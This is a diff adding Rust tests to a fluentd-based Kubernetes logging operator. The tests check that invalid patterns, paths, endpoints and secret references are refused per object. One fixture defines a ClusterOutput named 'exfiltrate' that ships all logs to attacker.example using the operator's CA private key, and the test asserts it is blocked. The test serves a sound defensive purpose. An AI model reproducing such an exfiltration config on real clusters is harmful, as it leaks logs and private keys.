@@ -164,3 +164,486 @@ spec:
     let key = ObjectKey::cluster(Kind::ClusterFlow, "orphan");
     assert_eq!(resolution.problems[&key][0].reason, "LoggingNotFound");
 }
+
+// ---------------------------------------------------------------------------------------
+// What fluentd compiles is checked as fluentd compiles it: an object fluentd would refuse at
+// startup is left out with a problem naming the field, and every other flow keeps going.
+
+fn reasons(resolution: &model::Resolution, key: &ObjectKey) -> Vec<(&'static str, String)> {
+    resolution
+        .problems
+        .get(key)
+        .map(|problems| {
+            problems
+                .iter()
+                .map(|p| (p.reason, p.field.clone()))
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// A Flow in `payments` with these filters, sending to the team's output.
+fn payments_flow_with(filters: &str) -> String {
+    format!(
+        r#"
+apiVersion: logging.sluice.dev/v1alpha1
+kind: Flow
+metadata: {{name: filtered, namespace: payments}}
+spec:
+  filters: {filters}
+  localOutputRefs: [payments-es]
+"#
+    )
+}
+
+/// Resolves the examples plus `extra`; asserts `key` is left out with a problem of `reason`
+/// at `field`, that it is the only object with problems and every example flow still runs.
+fn assert_left_out(extra: &str, key: &ObjectKey, reason: &str, field: &str) -> model::Resolution {
+    let resolution = model::resolve(&load_with(extra).inventory);
+    let found = reasons(&resolution, key);
+    assert!(
+        found.iter().any(|(r, f)| *r == reason && f == field),
+        "{key}: {found:?}"
+    );
+    assert_eq!(
+        resolution.problems.keys().collect::<Vec<_>>(),
+        [key],
+        "only {key} has problems"
+    );
+    let pipeline = &resolution.pipelines[0];
+    assert!(pipeline.flows.iter().all(|f| &f.key != key));
+    assert!(!pipeline.outputs.contains_key(key));
+    assert_eq!(pipeline.flows.len(), 7, "every example flow still runs");
+    resolution
+}
+
+fn filtered_flow() -> ObjectKey {
+    ObjectKey::namespaced(Kind::Flow, "payments", "filtered")
+}
+
+#[test]
+fn a_grep_pattern_ruby_cannot_compile_is_left_out() {
+    let extra = payments_flow_with(r#"[{grep: {regexp: [{key: message, pattern: "(unclosed"}]}}]"#);
+    let resolution = assert_left_out(
+        &extra,
+        &filtered_flow(),
+        "InvalidPattern",
+        "spec.filters[0].grep.regexp[0].pattern",
+    );
+    let message = &resolution.problems[&filtered_flow()][0].message;
+    assert!(
+        message.contains("end pattern with unmatched parenthesis"),
+        "fluentd's reason: {message}"
+    );
+    // Ruby syntax, not Rust's: a Python-style group is refused, a lookbehind accepted.
+    let python =
+        payments_flow_with(r#"[{grep: {exclude: [{key: message, pattern: "(?P<n>x)"}]}}]"#);
+    assert_left_out(
+        &python,
+        &filtered_flow(),
+        "InvalidPattern",
+        "spec.filters[0].grep.exclude[0].pattern",
+    );
+    let lookbehind =
+        payments_flow_with(r#"[{grep: {regexp: [{key: message, pattern: "(?<=GET )/health"}]}}]"#);
+    let resolution = model::resolve(&load_with(&lookbehind).inventory);
+    assert!(resolution.problems.is_empty(), "{:?}", resolution.problems);
+}
+
+#[test]
+fn two_grep_patterns_on_one_key_are_left_out() {
+    let extra = payments_flow_with(
+        r#"[{grep: {regexp: [{key: level, pattern: "error"}, {key: level, pattern: "warn"}]}}]"#,
+    );
+    let resolution = assert_left_out(
+        &extra,
+        &filtered_flow(),
+        "DuplicateKey",
+        "spec.filters[0].grep.regexp[1].key",
+    );
+    assert!(
+        resolution.problems[&filtered_flow()][0]
+            .message
+            .contains("Duplicate key: level")
+    );
+    // The same key once in `regexp` and once in `exclude` is fine for fluentd.
+    let both = payments_flow_with(
+        r#"[{grep: {regexp: [{key: level, pattern: "error"}], exclude: [{key: level, pattern: "debug"}]}}]"#,
+    );
+    assert!(
+        model::resolve(&load_with(&both).inventory)
+            .problems
+            .is_empty()
+    );
+}
+
+#[test]
+fn a_parser_expression_without_named_captures_is_left_out() {
+    let extra = payments_flow_with(
+        r#"[{parser: {keyName: message, format: regexp, expression: "^(\\w+) (.*)$"}}]"#,
+    );
+    let resolution = assert_left_out(
+        &extra,
+        &filtered_flow(),
+        "InvalidPattern",
+        "spec.filters[0].parser.expression",
+    );
+    assert!(
+        resolution.problems[&filtered_flow()][0]
+            .message
+            .contains("No named captures in 'expression' parameter")
+    );
+    let named = payments_flow_with(
+        r#"[{parser: {keyName: message, format: regexp, expression: "^(?<level>\\w+) (?<text>.*)$"}}]"#,
+    );
+    assert!(
+        model::resolve(&load_with(&named).inventory)
+            .problems
+            .is_empty()
+    );
+}
+
+#[test]
+fn a_record_accessor_fluentd_cannot_parse_is_left_out() {
+    let extra = payments_flow_with(
+        r#"[{grep: {regexp: [{key: "$.kubernetes.labels[app", pattern: "x"}]}}]"#,
+    );
+    let resolution = assert_left_out(
+        &extra,
+        &filtered_flow(),
+        "InvalidKey",
+        "spec.filters[0].grep.regexp[0].key",
+    );
+    assert!(
+        resolution.problems[&filtered_flow()][0]
+            .message
+            .contains("'[' found but ']' not found")
+    );
+    for (filters, field) in [
+        (
+            r#"[{parser: {keyName: "$.a b", format: json}}]"#,
+            "spec.filters[0].parser.keyName",
+        ),
+        (
+            r#"[{recordTransformer: {removeKeys: ["$['a\"]"]}}]"#,
+            "spec.filters[0].recordTransformer.removeKeys[0]",
+        ),
+    ] {
+        assert_left_out(
+            &payments_flow_with(filters),
+            &filtered_flow(),
+            "InvalidKey",
+            field,
+        );
+    }
+    let valid = payments_flow_with(
+        r#"[{grep: {regexp: [{key: "$['kubernetes']['labels']['app.kubernetes.io/name']", pattern: "x"}]}}]"#,
+    );
+    assert!(
+        model::resolve(&load_with(&valid).inventory)
+            .problems
+            .is_empty()
+    );
+}
+
+/// An Output in `payments` with this spec, used by a Flow there.
+fn payments_output(spec: &str) -> String {
+    format!(
+        r#"
+apiVersion: logging.sluice.dev/v1alpha1
+kind: Output
+metadata: {{name: extra, namespace: payments}}
+spec: {spec}
+---
+apiVersion: logging.sluice.dev/v1alpha1
+kind: Flow
+metadata: {{name: to-extra, namespace: payments}}
+spec:
+  localOutputRefs: [extra]
+"#
+    )
+}
+
+fn extra_output() -> ObjectKey {
+    ObjectKey::namespaced(Kind::Output, "payments", "extra")
+}
+
+/// The output is left out and its flow reports that, while everything else runs.
+fn assert_output_left_out(spec: &str, reason: &str, field: &str) -> model::Resolution {
+    let resolution = model::resolve(&load_with(&payments_output(spec)).inventory);
+    let found = reasons(&resolution, &extra_output());
+    assert!(
+        found.iter().any(|(r, f)| *r == reason && f == field),
+        "{found:?}"
+    );
+    let flow = ObjectKey::namespaced(Kind::Flow, "payments", "to-extra");
+    let mut with_problems: Vec<&ObjectKey> = resolution.problems.keys().collect();
+    with_problems.sort();
+    assert_eq!(with_problems, [&flow, &extra_output()]);
+    let pipeline = &resolution.pipelines[0];
+    assert!(!pipeline.outputs.contains_key(&extra_output()));
+    assert_eq!(
+        pipeline.flows.len(),
+        8,
+        "the examples' flows and the new one"
+    );
+    resolution
+}
+
+#[test]
+fn a_file_path_fluentd_refuses_is_left_out() {
+    for path in [
+        "logs/%Y/app",
+        "logs/${tag}",
+        "logs/${kubernetes.namespace_name}",
+    ] {
+        let resolution = assert_output_left_out(
+            &format!(r#"{{file: {{path: "{path}"}}}}"#),
+            "InvalidPath",
+            "spec.file.path",
+        );
+        assert!(
+            resolution.problems[&extra_output()][0]
+                .message
+                .contains("fluentd refuses it"),
+            "{path}"
+        );
+    }
+    let complete = payments_output(r#"{file: {path: "logs/%Y/%m/%d/%H/app"}}"#);
+    assert!(
+        model::resolve(&load_with(&complete).inventory)
+            .problems
+            .is_empty()
+    );
+}
+
+#[test]
+fn a_loki_label_fluentd_cannot_read_is_left_out() {
+    assert_output_left_out(
+        r#"{loki: {url: "https://loki.example", labels: {app: "$.kubernetes.labels[app"}}}"#,
+        "InvalidKey",
+        "spec.loki.labels.app",
+    );
+}
+
+#[test]
+fn allowed_client_names_are_checked_as_ruby_compiles_them() {
+    let dir = tempfile::tempdir().unwrap();
+    let original = std::fs::read_to_string(examples().join("00-logging.yaml")).unwrap();
+    // Accepted by Rust's regex syntax, a syntax error in Ruby.
+    let changed = original.replacen(
+        "  tls:\n",
+        "  tls:\n    allowedClientNames: \"(?P<agent>fluent-bit-.*)\"\n",
+        1,
+    );
+    assert_ne!(changed, original);
+    std::fs::write(dir.path().join("00-logging.yaml"), changed).unwrap();
+    let mut paths: Vec<PathBuf> = std::fs::read_dir(examples())
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| !p.ends_with("00-logging.yaml"))
+        .collect();
+    paths.push(dir.path().to_owned());
+    let resolution = model::resolve(&input::load(&paths).unwrap().inventory);
+    let logging = ObjectKey::cluster(Kind::Logging, "main");
+    assert_eq!(
+        reasons(&resolution, &logging),
+        [("InvalidPattern", "spec.tls.allowedClientNames".to_owned())]
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+// References: an output reaches only its own namespace's Secrets, never Sluice's.
+
+#[test]
+fn a_secret_name_the_api_server_cannot_take_degrades_only_the_output() {
+    assert_output_left_out(
+        r#"{http: {endpoint: "https://logs.example", basicAuth: {username: u, passwordSecretRef: {name: "a b", key: password}}}}"#,
+        "InvalidSecretName",
+        "spec.http.basicAuth.passwordSecretRef",
+    );
+}
+
+#[test]
+fn an_unreadable_secret_degrades_only_the_output() {
+    let mut inventory = load_with(&payments_output(
+        r#"{http: {endpoint: "https://logs.example", basicAuth: {username: u, passwordSecretRef: {name: locked, key: password}}}}"#,
+    ))
+    .inventory;
+    inventory.secret_errors.insert(
+        ("payments".to_owned(), "locked".to_owned()),
+        "secrets \"locked\" is forbidden".to_owned(),
+    );
+    let resolution = model::resolve(&inventory);
+    let problems = &resolution.problems[&extra_output()];
+    assert_eq!(problems[0].reason, "SecretUnreadable");
+    assert!(problems[0].message.contains("forbidden"));
+    assert_eq!(resolution.problems.len(), 2, "{:?}", resolution.problems);
+    assert_eq!(resolution.pipelines[0].flows.len(), 8);
+}
+
+#[test]
+fn outputs_cannot_reference_the_secrets_sluice_manages() {
+    let extra = r#"
+apiVersion: logging.sluice.dev/v1alpha1
+kind: ClusterOutput
+metadata: {name: exfiltrate}
+spec:
+  http:
+    endpoint: https://attacker.example
+    basicAuth: {username: u, passwordSecretRef: {name: main-ca, key: ca.key}}
+---
+apiVersion: v1
+kind: Secret
+metadata: {name: main-ca, namespace: logging}
+stringData: {ca.key: "-----BEGIN PRIVATE KEY-----"}
+---
+apiVersion: logging.sluice.dev/v1alpha1
+kind: ClusterFlow
+metadata: {name: everything}
+spec:
+  globalOutputRefs: [exfiltrate]
+"#;
+    let resolution = model::resolve(&load_with(extra).inventory);
+    let output = ObjectKey::cluster(Kind::ClusterOutput, "exfiltrate");
+    assert_eq!(
+        reasons(&resolution, &output),
+        [(
+            "SecretNotAllowed",
+            "spec.http.basicAuth.passwordSecretRef".to_owned()
+        )]
+    );
+    let pipeline = &resolution.pipelines[0];
+    assert!(!pipeline.outputs.contains_key(&output));
+    // Nothing of the CA key reaches the aggregator's credentials Secret.
+    assert!(
+        pipeline
+            .output_secret_data
+            .values()
+            .all(|v| !String::from_utf8_lossy(v).contains("PRIVATE KEY")),
+        "{:?}",
+        pipeline.output_secret_data.keys()
+    );
+    assert!(
+        pipeline
+            .output_secret_data
+            .keys()
+            .all(|k| !k.contains("main-ca"))
+    );
+
+    // By label too: a Secret Sluice created, whatever its name.
+    let labelled = r#"
+apiVersion: v1
+kind: Secret
+metadata:
+  name: renamed
+  namespace: payments
+  labels: {app.kubernetes.io/managed-by: sluice}
+stringData: {password: x}
+"#;
+    let spec = r#"{http: {endpoint: "https://logs.example", basicAuth: {username: u, passwordSecretRef: {name: renamed, key: password}}}}"#;
+    let resolution =
+        model::resolve(&load_with(&format!("{}---{labelled}", payments_output(spec))).inventory);
+    assert_eq!(
+        reasons(&resolution, &extra_output()),
+        [(
+            "SecretNotAllowed",
+            "spec.http.basicAuth.passwordSecretRef".to_owned()
+        )]
+    );
+}
+
+#[test]
+fn an_output_reads_secrets_of_its_own_namespace_only() {
+    // `payments-es` exists in namespace payments, not in storefront.
+    let extra = r#"
+apiVersion: logging.sluice.dev/v1alpha1
+kind: Output
+metadata: {name: borrow, namespace: storefront}
+spec:
+  http:
+    endpoint: https://logs.example
+    basicAuth: {username: u, passwordSecretRef: {name: payments-es, key: password}}
+---
+apiVersion: logging.sluice.dev/v1alpha1
+kind: Flow
+metadata: {name: borrower, namespace: storefront}
+spec:
+  localOutputRefs: [borrow]
+"#;
+    let resolution = model::resolve(&load_with(extra).inventory);
+    let output = ObjectKey::namespaced(Kind::Output, "storefront", "borrow");
+    assert_eq!(resolution.problems[&output][0].reason, "SecretNotFound");
+    assert!(
+        resolution.problems[&output][0]
+            .message
+            .contains("storefront/payments-es")
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn a_logging_ref_to_a_logging_that_does_not_watch_the_namespace_is_not_rendered() {
+    let extra = r#"
+apiVersion: logging.sluice.dev/v1alpha1
+kind: Flow
+metadata: {name: sneaky, namespace: not-watched}
+spec:
+  loggingRef: main
+  localOutputRefs: [sneaky-out]
+---
+apiVersion: logging.sluice.dev/v1alpha1
+kind: Output
+metadata: {name: sneaky-out, namespace: not-watched}
+spec:
+  loggingRef: main
+  nullOutput: {}
+"#;
+    let resolution = model::resolve(&load_with(extra).inventory);
+    let flow = ObjectKey::namespaced(Kind::Flow, "not-watched", "sneaky");
+    let output = ObjectKey::namespaced(Kind::Output, "not-watched", "sneaky-out");
+    assert_eq!(
+        reasons(&resolution, &flow),
+        [("NamespaceNotWatched", "spec.loggingRef".to_owned())]
+    );
+    assert_eq!(
+        reasons(&resolution, &output),
+        [("NamespaceNotWatched", "spec.loggingRef".to_owned())]
+    );
+    let pipeline = &resolution.pipelines[0];
+    assert!(pipeline.flows.iter().all(|f| f.key != flow));
+    assert!(!pipeline.outputs.contains_key(&output));
+}
+
+#[test]
+fn an_s3_endpoint_out_s3_refuses_is_left_out() {
+    assert_output_left_out(
+        r#"{s3: {bucket: logs, region: eu-west-1, endpoint: "https://s3.eu-west-1.amazonaws.com"}}"#,
+        "InvalidEndpoint",
+        "spec.s3.endpoint",
+    );
+}
+
+#[test]
+fn an_unreadable_secret_of_the_logging_is_reported_and_the_pipeline_still_built() {
+    let mut inventory = input::load(&[examples()]).unwrap().inventory;
+    let logging = &mut inventory.loggings[0];
+    let tls = logging.spec.tls.get_or_insert_with(Default::default);
+    tls.shared_key_secret_ref = Some(sluice::api::SecretKeyRef {
+        name: "custom-key".to_owned(),
+        key: "key".to_owned(),
+    });
+    inventory.secret_errors.insert(
+        ("logging".to_owned(), "custom-key".to_owned()),
+        "secrets \"custom-key\" is forbidden".to_owned(),
+    );
+    let resolution = model::resolve(&inventory);
+    let key = ObjectKey::cluster(Kind::Logging, "main");
+    assert_eq!(
+        reasons(&resolution, &key),
+        [("SecretUnreadable", "spec.tls".to_owned())]
+    );
+    assert_eq!(resolution.problems.len(), 1);
+    assert_eq!(resolution.pipelines[0].flows.len(), 7);
+}
